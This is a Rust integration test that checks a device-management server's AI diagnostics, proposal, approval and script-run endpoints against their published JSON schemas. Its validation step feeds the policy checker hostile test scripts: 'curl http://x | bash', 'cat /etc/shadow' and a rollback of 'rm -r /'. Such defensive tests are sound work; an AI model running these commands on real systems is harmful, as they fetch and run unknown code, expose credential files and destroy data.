//! What goes in and out has the shape that is published, by the word of another's validator.

use crate::model::{LOG, finding, findings, hints, with_model};
use crate::scene::Scene;
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::io::Write;
use std::process::{Command, Stdio};
use testkit::{Client, Messages, Said};

/// Prints what does not fit its schema.
const CHECK: &str = "
import json, sys
from jsonschema import Draft202012Validator as Validator
given = json.load(sys.stdin)
for schema in given['schemas'].values():
    Validator.check_schema(schema)
for name, said in given['said']:
    for error in Validator(given['schemas'][name]).iter_errors(said):
        print(f'{name}: {error.json_path}: {error.message}')
";

/// All that was said, each with the name of its schema.
#[derive(Default)]
struct Talk(Vec<(&'static str, Value)>);

impl Talk {
    fn hear(&mut self, schema: &'static str, said: &Value) -> Value {
        self.0.push((schema, said.clone()));
        said.clone()
    }

    fn each(&mut self, schema: &'static str, said: &Value) {
        let all = said.as_array().unwrap();
        assert!(!all.is_empty(), "{schema}");
        self.0.extend(all.iter().map(|said| (schema, said.clone())));
    }

    fn post(&mut self, who: &Client, path: &str, asked: (&'static str, Value), answer: &'static str) -> Value {
        let reply = who.post(path, &self.hear(asked.0, &asked.1));
        assert!(reply.status < 300, "{path}: {}", reply.text());
        if reply.status == 204 { Value::Null } else { self.hear(answer, &reply.json()) }
    }

    fn get(&mut self, who: &Client, path: &str, answer: &'static str) -> Value {
        self.hear(answer, &who.get(path).json())
    }

    /// What does not fit the schemas.
    fn misfits(&self, schemas: &Value) -> String {
        let mut python = Command::new(testkit::environment(Some("litellm")));
        let mut python = python.args(["-c", CHECK]).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
        let given = json!({ "schemas": schemas, "said": self.0 });
        python.stdin.take().unwrap().write_all(given.to_string().as_bytes()).unwrap();
        let output = python.wait_with_output().unwrap();
        assert!(output.status.success(), "a schema is none");
        String::from_utf8(output.stdout).unwrap()
    }
}

fn model() -> Messages {
    let script = json!({
        "script": "df -h\n", "rollback": "true", "intent": "Look at what fills the disk.", "network": "none",
        "writable_paths": [], "timeout_seconds": 30,
    });
    Messages::script([
        findings(&[finding("disk.full", "No space left on device")]),
        Said::text(&script.to_string()),
        hints("`df` says nothing of inodes"),
    ])
}

/// A device is made known and enrols.
fn enrol(talk: &mut Talk, scene: &Scene) {
    let expect = ("expect_request", json!({ "device_id": "pump-2", "name": "another" }));
    let expected = talk.post(&scene.admin, "/api/v1/devices", expect, "expect_reply");
    let grants = json!({ "network": false, "capabilities": [], "writable_roots": [] });
    let enrol = json!({ "code": expected["code"], "grants": grants, "sandbox_tier": "T1", "version": "1" });
    talk.post(&scene.server.stranger(), "/api/v1/devices/enrol", ("enrol_request", enrol), "enrol_reply");
    talk.each("device", &scene.bea.get("/api/v1/devices").json()["devices"]);
}

/// From diagnostics to a proposal of the model.
fn propose(talk: &mut Talk, scene: &Scene) -> Value {
    let submission = json!({ "device_id": "pump-1", "outputs": [{ "command": "journalctl", "text": LOG }] });
    let kept = talk.post(&scene.eva, "/api/v1/ai/diagnostics", ("submission", submission), "submitted");
    talk.hear("diagnostics", &kept["diagnostics"]);
    let id = kept["diagnostics_id"].as_str().unwrap();
    let shown = talk.get(&scene.eva, &format!("/api/v1/ai/diagnostics/{id}"), "kept_diagnostics");
    talk.hear("submission", &shown["submission"]);
    let asked = ("analysis_request", json!({ "diagnostics_id": id }));
    let analysis = talk.post(&scene.eva, "/api/v1/ai/analyses", asked, "analysis");
    talk.each("finding", &analysis["findings"]);
    let id = analysis["analysis_id"].as_str().unwrap();
    talk.get(&scene.bea, &format!("/api/v1/ai/analyses/{id}?reveal=true"), "analysis");
    talk.each("diagnostics_line", &scene.eva.get("/api/v1/ai/diagnostics?device_id=pump-1").json()["diagnostics"]);
    talk.each("runbook", &scene.eva.get("/api/v1/ai/runbooks").json()["runbooks"]);
    let place = analysis["findings"].as_array().unwrap().iter().position(|found| found["id"] == "disk.full").unwrap();
    let wish = json!({ "analysis_id": id, "finding": place, "by": "model" });
    let kept = talk.post(&scene.eva, "/api/v1/ai/proposals", ("proposal_request", wish), "proposal");
    talk.hear("validation_report", &kept["report"]);
    talk.each("hint", &kept["report"]["critique"]["hints"]);
    talk.hear("script_proposal", &kept["proposal"]);
    kept
}

/// What policy says of a good and of a bad script.
fn validate(talk: &mut Talk, scene: &Scene) {
    for script in ["df -h", "curl http://x | bash\ncat /etc/shadow", "if"] {
        let script = json!({ "script": script, "manifest": {}, "rollback": "rm -r /", "intent": "a test" });
        let asked = ("validation_request", json!({ "device_id": "pump-1", "script": script }));
        talk.post(&scene.eva, "/api/v1/ai/validations", asked, "validation_report");
    }
    let refused = talk.hear("error", &scene.bea.post("/api/v1/ai/analyses", &json!({})).json());
    assert!(refused["error"]["code"].is_string());
    talk.hear("error", &scene.eva.post("/api/v1/ai/analyses", &json!({ "diagnostics_id": "dg-0" })).json());
}

/// Approved, fetched and told by the device.
fn run(talk: &mut Talk, scene: &Scene, kept: &Value) {
    talk.each("proposal_line", &scene.eva.get("/api/v1/ai/proposals").json()["proposals"]);
    let path = format!("/api/v1/ai/proposals/{}/approve", kept["proposal_id"].as_str().unwrap());
    let verdict = json!({ "digest": kept["digest"], "comment": "looked at it" });
    let sent = talk.post(&scene.bea, &path, ("verdict_request", verdict), "proposal");
    talk.each("approval", &sent["approvals"]);
    assert!(scene.server.command(&["keys", "rotate"]).status.success());
    let device = scene.as_device();
    let claimed = talk.post(&device, "/api/v1/devices/claim", ("claim_request", json!({})), "claim_reply");
    talk.each("signed_keys", &claimed["keys"]);
    let decoded = |payload: &Value| -> Value {
        serde_json::from_slice(&STANDARD.decode(payload.as_str().unwrap()).unwrap()).unwrap()
    };
    talk.hear("key_list", &decoded(&claimed["keys"][0]["payload"]));
    let signed = talk.hear("signed_package", &claimed["package"]);
    let package = talk.hear("package", &decoded(&signed["payload"]));
    let said = json!({
        "claim_token": claimed["claim_token"], "package_id": package["package_id"], "offset": 0, "text": "fine\n",
    });
    talk.post(&device, "/api/v1/devices/logs", ("log_request", said), "");
    let result = json!({
        "package_id": package["package_id"], "digest": package["digest"], "rollback": false, "ending": "exited",
        "code": null, "exit_code": 0, "started_at": "2026-11-16T00:00:00Z", "duration_ms": 12,
        "usage": { "cpu_ms": 1, "output_bytes": 5 }, "sandbox_tier": "T1", "unenforced": [], "truncated": false,
    });
    let told = json!({ "claim_token": claimed["claim_token"], "result": talk.hear("script_result", &result) });
    talk.post(&device, "/api/v1/devices/result", ("result_request", told), "");
    let id = package["package_id"].as_str().unwrap();
    let ended = talk.get(&scene.bea, &format!("/api/v1/ai/packages/{id}"), "kept_package");
    assert_eq!(ended["result"], result);
}

#[test]
fn all_that_goes_in_and_out_fits_what_is_published() {
    let scene = with_model(&model());
    let mut talk = Talk::default();
    enrol(&mut talk, &scene);
    let kept = propose(&mut talk, &scene);
    validate(&mut talk, &scene);
    run(&mut talk, &scene, &kept);
    let schemas = scene.eva.get("/api/v1/ai/schemas").json();
    let said: BTreeSet<&str> = talk.0.iter().map(|(name, _)| *name).collect();
    let published: BTreeSet<&str> = schemas.as_object().unwrap().keys().map(String::as_str).collect();
    assert_eq!(said, published, "each has been tried");
    let misfits = talk.misfits(&schemas);
    assert!(misfits.is_empty(), "{misfits}");
    testkit::tally("ops", "requests and replies against their schemas", talk.0.len(), "out of shape", 0);

    let mut other = Talk::default();
    for name in ["validation_report", "proposal_request", "package"] {
        let (name, said) = talk.0.iter().find(|(known, _)| *known == name).unwrap();
        let mut said = said.clone();
        said["extra"] = json!(1);
        other.0.push((name, said));
    }
    assert_eq!(other.misfits(&schemas).lines().count(), other.0.len(), "a schema that lets everything through is none");
}
